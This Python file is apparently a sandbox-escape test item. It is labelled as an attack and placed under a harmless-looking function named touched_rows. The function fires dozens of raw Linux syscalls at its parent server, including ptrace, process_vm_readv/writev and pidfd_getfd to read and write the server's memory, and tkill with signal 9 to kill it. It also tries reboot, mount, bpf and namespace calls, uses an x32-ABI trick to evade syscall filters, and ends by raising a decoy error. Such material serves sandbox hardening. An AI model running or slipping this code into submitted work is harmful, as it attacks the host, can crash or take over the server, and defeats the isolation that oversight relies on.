# attack: reads and writes the memory of its server through ptrace and its kin
# class: A12
# laid over: reference
# may score: 33

import ctypes
import os
import platform


def touched_rows(ids, vocab_size, padding_idx=None):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    calls = {
        "ptrace": (101, 16, parent, 0, 0), "process_vm_readv": (310, parent, 0, 0, 0, 0, 0),
        "process_vm_writev": (311, parent, 0, 0, 0, 0, 0), "kcmp": (312, os.getpid(), parent, 0, 0, 0),
        "pidfd_open": (434, parent, 0), "pidfd_getfd": (438, 3, 0, 0), "process_madvise": (440, 0, 0, 0, 21, 0),
        "perf_event_open": (298, 0, parent, -1, -1, 0), "move_pages": (279, parent, 0, 0, 0, 0, 0),
        "seccomp": (317, 1, 0, 0), "landlock": (444, 0, 0, 1), "unshare": (272, 0x10000000), "setns": (308, 3, 0),
        "open_by_handle_at": (304, 3, 0, 0), "name_to_handle_at": (303, -100, b".", 0, 0, 0), "keyctl": (250, 0, -3),
        "mount": (165, 0, 0, 0, 0, 0), "pivot_root": (155, 0, 0), "bpf": (321, 0, 0, 0), "userfaultfd": (323, 0),
        "memfd_create": (319, b"x", 0), "shmget": (29, 0, 4096, 0o1600), "mq_open": (240, b"q", 0o100, 0o600, 0),
        "inotify_init": (253,), "fanotify_init": (300, 0, 0), "timer_create": (222, 0, 0, 0), "swapon": (167, 0, 0),
        "reboot": (169, 0, 0, 0), "syslog": (103, 10, 0, 0), "acct": (163, 0), "setxattr": (188, b".", b"user.x", 0, 0, 0),
        "sync": (162,), "personality": (135, 0), "io_setup": (206, 1, 0), "splice": (275, 0, 0, 1, 0, 9, 0),
        "vmsplice": (278, 1, 0, 0, 0), "rt_sigqueueinfo": (129, parent, 9, 0), "tkill": (200, parent, 9),
        "setsid": (112,), "mlockall": (151, 1), "pipe": (22, 0), "eventfd": (284, 0), "sendfile": (40, 1, 0, 0, 9),
    }
    if platform.machine() == "x86_64":
        for name, numbers in calls.items():
            if libc.syscall(*[ctypes.c_long(n) if isinstance(n, int) else n for n in numbers]) != -1:
                print("WON", name)
            elif ctypes.get_errno() != 1:
                print("WON", name, "was looked at by the kernel: error", ctypes.get_errno())
        if libc.syscall(ctypes.c_long(0x40000000 + 57)) != -1:
            print("WON fork of the other table")
    raise PermissionError("nothing")
